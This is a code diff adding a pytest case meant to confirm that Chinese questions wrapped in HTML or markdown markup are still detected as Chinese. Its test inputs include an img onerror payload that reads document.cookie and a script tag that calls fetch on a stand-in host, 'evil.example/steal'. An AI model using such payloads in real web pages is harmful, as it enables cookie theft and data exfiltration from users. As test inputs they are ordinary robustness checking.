@@ -137,3 +137,12 @@ def test_english_abbreviations_are_put_in_the_report_terms():
     assert in_report_terms("新增学位多少") == "新增学位多少"
     assert in_report_terms("GDPR合规") == "GDPR合规"
     assert in_report_terms("What is the GDP target?", annotate=True) == "What is the GDP（地区生产总值） target?"
+
+
+@pytest.mark.parametrize("text", [
+    '新增多少学位？<img src="http://example.com/a.png" onerror="alert(document.cookie)">',
+    "![t](http://host/x.png) 今年新增多少学位？",
+    '<script>fetch("https://evil.example/steal")</script>新增学位多少？',
+])
+def test_markup_in_a_chinese_question_does_not_make_it_english(text):
+    assert detect_lang(text) == "zh"
